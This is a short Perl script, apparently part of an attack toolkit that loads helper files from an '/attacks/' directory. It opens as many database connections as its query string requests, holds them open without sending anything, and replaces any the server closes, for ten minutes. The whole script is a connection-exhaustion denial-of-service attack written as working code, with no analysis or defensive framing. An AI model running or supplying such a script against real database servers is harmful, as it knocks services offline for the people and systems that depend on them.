#!/usr/bin/perl
# Takes as many connections to the database server as QUERY_STRING says, says nothing on them, and takes others in place
# of those that the server closes, for ten minutes.
require '/attacks/system-calls.pl';
require '/attacks/database.pl';

my ($most, $end) = ($ENV{QUERY_STRING}, time + 600);
go_on_alone();
my @held;
while (time < $end) {
  my $session = eval { knock() };
  if (!$session) { sleep 1; next }
  push @held, $session;
  shift @held if @held > $most;
  select undef, undef, undef, 0.01 if @held == $most;
}
